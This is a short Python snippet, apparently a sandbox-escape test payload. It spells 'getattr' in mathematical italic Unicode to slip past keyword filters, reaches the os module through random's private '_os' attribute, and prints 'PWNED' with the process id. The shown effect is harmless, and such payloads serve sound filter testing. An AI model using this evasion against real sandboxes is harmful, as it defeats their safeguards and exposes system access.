# unicode: mathematical italic getattr
M = "PWN" + "ED"

import random
print(M, 𝘨𝘦𝘵𝘢𝘵𝘵𝘳(random, "_os").getpid())
